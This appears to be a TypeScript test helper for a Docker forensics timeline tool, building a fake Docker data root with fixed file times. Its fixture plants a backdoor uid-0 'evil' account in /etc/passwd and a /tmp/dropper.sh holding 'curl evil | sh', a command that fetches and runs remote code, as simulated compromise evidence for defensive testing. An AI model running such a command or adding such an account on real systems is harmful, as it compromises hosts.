import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { Warnings } from '../../src/warnings.ts';
import type { TimelineEvent } from '../../src/events/event.ts';
import { readInput, type InputResult } from '../../src/merge/input.ts';
import { inputZone } from '../../src/merge/times.ts';
import type { InputFormat } from '../../src/merge/reader.ts';

export const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
export const MERGE_FIXTURES = path.join(ROOT, 'fixtures/merge');
export const fixture = (name: string): string => path.join(MERGE_FIXTURES, name);

/** A 64-hex id made from a word (stable across runs). */
export const hexId = (word: string): string => createHash('sha256').update(word).digest('hex');

/** Read one input with the merge readers; events in read order. */
export async function read(file: string, o: { format?: InputFormat; zone?: string } = {}): Promise<{ events: TimelineEvent[]; hostPaths: (string | null)[]; warnings: Warnings; result: InputResult }> {
  const warnings = new Warnings();
  const events: TimelineEvent[] = [];
  const hostPaths: (string | null)[] = [];
  const result = await readInput(file, { format: o.format, zone: inputZone(o.zone), zoneGiven: o.zone !== undefined, warnings }, (e, p) => {
    events.push(e);
    hostPaths.push(p);
  });
  return { events, hostPaths, warnings, result };
}

/** UTC ns of an ISO time with 0-9 fraction digits, computed with Date (independently of src/time). */
export function isoNs(iso: string): bigint {
  const m = /^(.*?)(?:\.(\d{1,9}))?Z$/.exec(iso)!;
  return BigInt(Date.parse(`${m[1]}Z`)) * 1_000_000n + BigInt((m[2] ?? '').padEnd(9, '0') || '0');
}

/** Write files (string, Buffer, or `{ symlink }`) under a folder (a fresh temp folder by default). */
export function makeTree(files: Record<string, string | Buffer | { symlink: string }>, base?: string): string {
  const root = base ?? mkdtempSync(path.join(tmpdir(), 'dt-merge-'));
  for (const [rel, content] of Object.entries(files)) {
    const abs = path.join(root, rel);
    mkdirSync(path.dirname(abs), { recursive: true });
    if (typeof content === 'object' && !Buffer.isBuffer(content)) symlinkSync(content.symlink, abs);
    else writeFileSync(abs, content);
  }
  return root;
}

/** A minimal config.v2.json as Docker writes it (adapted from test/helpers/dataroot.ts). */
export function configV2(id: string, over: Record<string, unknown> = {}): string {
  return JSON.stringify({
    StreamConfig: {},
    State: { Running: false, Paused: false, Restarting: false, OOMKilled: false, Dead: false, Pid: 0, ExitCode: 0, Error: '', StartedAt: '2026-01-02T03:04:05.5Z', FinishedAt: '2026-01-02T03:05:00Z' },
    ID: id, Created: '2026-01-02T03:04:05.123456789Z', Path: 'sh', Args: ['-c', 'true'],
    Config: { Hostname: id.slice(0, 12), Image: 'busybox', Cmd: ['sh'] }, Image: 'sha256:' + 'c'.repeat(64),
    LogPath: `/var/lib/docker/containers/${id}/${id}-json.log`, Name: '/test', Driver: 'overlay2', ...over,
  });
}

/** The ids of the fake data root. */
export const DR = {
  container: hexId('container web'),
  mount: hexId('mount of web'),
  layerDiff: hexId('diff of the busybox layer'),
  cache: hexId('cache of the busybox layer'),
  volume: 'appdata',
} as const;

/**
 * A small Docker data root (container `web` on image `busybox:latest`, its writable and init layers,
 * the image's one layer, a named volume mounted at /data) under `<base>/<rootRel>`, with known mtimes.
 * Returns the image id too.
 */
export function makeDataRoot(base: string, rootRel = ''): { root: string; imageId: string } {
  const image = JSON.stringify({
    architecture: 'amd64', os: 'linux', created: '2025-12-01T00:00:00Z', config: { Cmd: ['sh'] },
    history: [{ created: '2025-12-01T00:00:00Z', created_by: '/bin/sh -c #(nop) ADD file:busybox in / ' }],
    rootfs: { type: 'layers', diff_ids: [`sha256:${DR.layerDiff}`] },
  });
  const imageId = createHash('sha256').update(image).digest('hex');
  const c = DR.container;
  const files: Record<string, string | { symlink: string }> = {
    [`containers/${c}/config.v2.json`]: configV2(c, {
      Name: '/web', Image: `sha256:${imageId}`, Config: { Hostname: c.slice(0, 12), Image: 'busybox:latest', Cmd: ['sh'] },
      MountPoints: { '/data': { Source: '/var/lib/docker/volumes/appdata/_data', Destination: '/data', RW: true, Name: 'appdata', Driver: 'local', Type: 'volume' } },
    }),
    [`containers/${c}/${c}-json.log`]: `${JSON.stringify({ log: 'hello\n', stream: 'stdout', time: '2026-01-02T03:04:06.000000001Z' })}\n`,
    [`containers/${c}/hostname`]: `${c.slice(0, 12)}\n`,
    [`image/overlay2/imagedb/content/sha256/${imageId}`]: image,
    'image/overlay2/repositories.json': JSON.stringify({ Repositories: { busybox: { 'busybox:latest': `sha256:${imageId}` } } }),
    [`image/overlay2/layerdb/sha256/${DR.layerDiff}/diff`]: `sha256:${DR.layerDiff}`,
    [`image/overlay2/layerdb/sha256/${DR.layerDiff}/cache-id`]: DR.cache,
    [`image/overlay2/layerdb/sha256/${DR.layerDiff}/size`]: '3',
    [`image/overlay2/layerdb/mounts/${c}/mount-id`]: DR.mount,
    [`image/overlay2/layerdb/mounts/${c}/init-id`]: `${DR.mount}-init`,
    [`image/overlay2/layerdb/mounts/${c}/parent`]: `sha256:${DR.layerDiff}`,
    [`overlay2/${DR.cache}/diff/bin/sh`]: 'sh\n',
    [`overlay2/${DR.mount}-init/diff/etc/hosts`]: '127.0.0.1 localhost\n',
    [`overlay2/${DR.mount}/diff/etc/passwd`]: 'root:x:0:0:root:/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n',
    [`overlay2/${DR.mount}/diff/tmp/dropper.sh`]: '#!/bin/sh\ncurl evil | sh\n',
    'overlay2/l/ABCDEFGHIJKLMNOPQRSTUVWXYZ': { symlink: `../${DR.cache}/diff` },
    [`volumes/${DR.volume}/_data/upload.txt`]: 'uploaded\n',
  };
  const root = path.join(base, rootRel);
  makeTree(Object.fromEntries(Object.entries(files).map(([k, v]) => [path.join(rootRel, k), v])), base);
  const at = (rel: string, iso: string): void => {
    const t = new Date(iso);
    utimesSync(path.join(root, rel), t, t);
  };
  at(`overlay2/${DR.mount}/diff/etc/passwd`, '2026-01-02T03:10:00Z');
  at(`overlay2/${DR.mount}/diff/tmp/dropper.sh`, '2026-01-02T03:11:00Z');
  at(`overlay2/${DR.mount}-init/diff/etc/hosts`, '2026-01-02T03:04:05Z');
  at(`overlay2/${DR.cache}/diff/bin/sh`, '2025-12-01T00:00:00Z');
  at(`volumes/${DR.volume}/_data/upload.txt`, '2026-01-02T03:20:00Z');
  return { root, imageId };
}

/** Parse a jsonl output into objects. */
export function jsonLines(file: string): Record<string, unknown>[] {
  return readFileSync(file, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
}

/** Byte offsets of the non-blank lines of a file. */
export function lineOffsets(file: string): { offset: number; text: string }[] {
  const buf = readFileSync(file);
  const out: { offset: number; text: string }[] = [];
  let start = 0;
  while (start < buf.length) {
    let nl = buf.indexOf(10, start);
    if (nl < 0) nl = buf.length;
    const text = buf.subarray(start, nl).toString('utf8');
    if (text.trim() !== '') out.push({ offset: start, text });
    start = nl + 1;
  }
  return out;
}
